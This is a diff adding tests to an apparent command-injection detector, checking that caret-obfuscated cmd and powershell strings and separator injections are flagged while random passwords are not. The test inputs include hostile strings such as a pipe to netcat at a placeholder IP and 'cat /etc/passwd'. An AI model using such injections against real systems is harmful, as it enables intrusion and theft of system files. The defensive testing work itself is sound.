@@ -230,3 +230,24 @@ describe('cmdi detector', () => {
     assert.equal(strongest("name=\\'Bob\\'; see $names"), 0);
   });
 });
+
+describe('cmdi on generated passwords', () => {
+  test('carets count where they hide a command name; between random letters they spell nothing', () => {
+    assert.equal(scores('c^m^d /c calc').get('cmdi.caret-obfuscation'), 5);
+    assert.equal(scores('p^o^w^e^r^s^h^e^l^l -nop').get('cmdi.caret-obfuscation'), 5);
+    for (const password of ['qcm[s!1^Y^JsIyn$92f', 'Xa^b^c7!kP#q', 'h^K^t9@zz'])
+      assert.equal(scores(password).has('cmdi.caret-obfuscation'), false, password);
+  });
+
+  test('a separator after a command counts when a command, a comment or the end follows', () => {
+    for (const attack of ['id;', 'id|nc 203.0.113.9 4444', 'w&&cat /etc/passwd', 'uname;#', 'id&`whoami`'])
+      assert.equal(strongest(attack), 5, attack);
+    for (const password of [
+      'w&@SzO0sxuzl$X*BwbG@',
+      'du&Uz*nxA3I@gA071Qcu',
+      'RM&c8^yZrm4Hu%IBNJor',
+      'At&gs$&M$^m$Jrgg',
+    ])
+      assert.ok(strongest(password) < 5, password);
+  });
+});
